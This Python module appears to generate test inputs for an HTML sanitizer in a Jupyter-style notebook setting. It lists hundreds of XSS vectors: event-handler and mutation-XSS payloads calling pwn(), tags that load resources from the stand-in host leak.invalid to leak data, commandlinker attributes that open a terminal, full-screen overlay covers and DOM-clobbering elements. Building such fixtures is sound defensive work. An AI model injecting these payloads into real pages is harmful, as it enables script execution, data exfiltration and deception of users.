"""HTML that harms whoever puts it into a page: it runs, asks the network, starts commands, covers or clobbers.

Whatever runs calls ``pwn()``; whatever is loaded is asked of ``leak.invalid``. The classes of attack are known ones,
the texts are ours.
"""

from __future__ import annotations

from itertools import product

LEAK = "https://leak.invalid/"

_TAGS = {
    "a": "href=#",
    "audio": "src=x autoplay",
    "body": "",
    "button": "autofocus",
    "details": "open",
    "div": "contenteditable autofocus tabindex=1",
    "embed": "src=x",
    "form": "",
    "iframe": "src=about:blank",
    "img": "src=x",
    "input": "autofocus",
    "link": "rel=stylesheet href=x",
    "marquee": "loop=1 width=1",
    "math": "tabindex=1 autofocus",
    "object": "data=x",
    "p": "style='animation:spin 1ms'",
    "script": "src=x",
    "select": "autofocus",
    "style": "",
    "svg": "",
    "table": "background=x",
    "textarea": "autofocus",
    "video": "src=x autoplay",
    "xss-own": "tabindex=1 autofocus",
}
_EVENTS = """
onerror onload ontoggle onfocus onfocusin onstart onanimationstart onclick onpointerover onbeforetoggle onscrollend
oncontentvisibilityautostatechange
"""

_IMAGE = "<img src=x onerror=pwn()>"
_HIDDEN_IMAGE = "&lt;img src=x onerror=pwn()&gt;"
FOREIGN = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_HIDDEN_IMAGE}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f"<math><annotation-xml encoding='text/html'><style>{_IMAGE}</style></annotation-xml></math>",
    f"<math><annotation-xml encoding='text/html'><svg>{_IMAGE}</svg></annotation-xml></math>",
    f"<svg></p><style><a id='</style>{_IMAGE}'>",
    f"<svg><style><!--</style>{_IMAGE}-->",
    f"<svg><desc><table><svg><style><!--</style></svg></table></desc></svg><p title='-->{_IMAGE}'>",
    f"<svg><foreignObject><p><style><![CDATA[</style>{_IMAGE}]]></p></foreignObject></svg>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href='data:,pwn()'></script></svg>",
    "<svg><animate attributeName=href values='javascript:pwn()' /><a id=x><text>x</text></a></svg>",
    "<svg><set onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn() xmlns=\"http://www.w3.org/2000/svg\"/>#x'></use></svg>",
    f"<noscript><p title='</noscript>{_IMAGE}'>",
    f"<noembed><p title='</noembed>{_IMAGE}'>",
    f"<noframes><p title='</noframes>{_IMAGE}'>",
    f"<xmp><p title='</xmp>{_IMAGE}'>",
    f"<textarea><p title='</textarea>{_IMAGE}'>",
    f"<title><p title='</title>{_IMAGE}'>",
    f"<iframe><p title='</iframe>{_IMAGE}'>",
    f"<template><p title='</template>{_IMAGE}'></template>{_IMAGE}",
    f"<template shadowrootmode=open>{_IMAGE}</template>",
    f"<select><template>{_IMAGE}</template></select>",
    f"<select><option><style></option></select>{_IMAGE}",
    f"<table><td><form><math><mi>{_IMAGE}",
    f"<!--><img title='-->{_IMAGE}'>",
    f"<!-- --!>{_IMAGE}-->",
    f"<!doctype x [<!ENTITY y '{_IMAGE}'>]>",
    f"<?xml-stylesheet ?>{_IMAGE}?>",
    f"<?a {_IMAGE}?>",
    f"<![CDATA[{_IMAGE}]]>",
    f"</{_IMAGE}",
    f"<plaintext>{_IMAGE}",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<object data='data:text/html,<script>parent.pwn()</script>'>",
    "<script>pwn()</script>",
    "<script\x0c>pwn()</script >",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script type=module>pwn()</script>",
    "<script type=importmap>{}</script>",
    "<img src='x` `<script>pwn()</script>'` `>",
    "<img/src=x/onerror=pwn()>",
    "<img src=x\x00 onerror=pwn()>",
    "<img src=x onerror\x0b=pwn()>",
    "<img src=x onerror=&#112;wn()>",
    "<<img src=x onerror=pwn()//",
    "<img src=x:x onerror=pwn() ",
    "<IMG SRC=x ONERROR=pwn()>",
    "<image src=x onerror=pwn()>",
    "＜img src=x onerror=pwn()＞",
    "<a href=https://good.example onclick=pwn() autofocus onfocus=pwn()>x</a>",
]

_SENDERS = [
    "![x]({})",
    "![x][y]\n\n[y]: {}",
    "[![x]({})](https://good.example)",
    "<img src='{}'>",
    "<img srcset='{} 2x'>",
    "<picture><source srcset='{}'><img></picture>",
    "<video poster='{}'></video>",
    "<video src='{}' preload></video>",
    "<audio src='{}' preload></audio>",
    "<track src='{}'>",
    "<input type=image src='{}'>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<iframe src='{}'></iframe>",
    "<frameset><frame src='{}'></frameset>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=prefetch href='{}'>",
    "<link rel=dns-prefetch href='{}'>",
    "<link rel=preconnect href='{}'>",
    "<style>@import '{}';</style>",
    "<style>* {{ background: url({}) }}</style>",
    "<p style='background:url({})'>x</p>",
    "<p style='background-image:image-set(\"{}\" 1x)'>x</p>",
    "<td style='text-align:left;background:url({})'>x</td>",
    "<table background='{}'><tr><td>x</td></tr></table>",
    "<body background='{}'>",
    "<svg><image href='{}'></image></svg>",
    "<svg><feImage href='{}'></feImage></svg>",
    "<svg><use href='{}#x'></use></svg>",
    "<svg><rect style='fill:url({})'></rect></svg>",
    "<math><mi style='background:url({})'>x</mi></math>",
    "<math href='{}'><mi>x</mi></math>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'>",
    "<a href='https://good.example' ping='{}'>x</a>",
    "<form action='{}'><input autofocus></form>",
    "<script src='{}'></script>",
    "<portal src='{}'></portal>",
    "<fencedframe src='{}'></fencedframe>",
    "<blockquote cite='{}'>x</blockquote>",
]

_COMMANDS = [
    f"<{tag} {attribute}=\"terminal:create-new\" data-commandlinker-args='{{}}'>x</{tag}>"
    for tag, attribute in product(
        ("button", "a href='https://good.example'", "p", "span", "code", "li", "td", "math"),
        ("data-commandlinker-command", "data-command", "data-jp-command", "data-lm-command", "data-mime-type"),
    )
]
_COVERS = [
    f"<{tag} class='{name}' style='position:fixed;inset:0;z-index:99'>x</{tag}>"
    for tag, name in product(
        ("div", "span", "code", "p", "a", "td", "mi"),
        ("jp-Dialog", "lm-Widget jp-mod-accept", "language-x jp-Cell", "hl-k jp-Dialog", "primer-panel"),
    )
]
_CLOBBERS = [
    f"<{tag} {kind}={name}>x</{tag}>" + f"<{tag} {kind}={name} name=href>x</{tag}>"
    for tag, kind, name in product(
        ("a", "form", "img", "input", "iframe", "object", "h1", "p"),
        ("id", "name"),
        ("document", "body", "jupyter-config-data"),
    )
]


def html_vectors() -> list[str]:
    """Make all pieces of HTML."""
    events = [f"<{tag} {rest} {event}=pwn()>x" for (tag, rest), event in product(_TAGS.items(), _EVENTS.split())]
    return [*events, *FOREIGN, *senders(), *_COMMANDS, *_COVERS, *_CLOBBERS]


def senders() -> list[str]:
    """Make what asks the network by itself, each for an address of its own."""
    return [sender.format(f"{LEAK}{number}") for number, sender in enumerate(_SENDERS)]
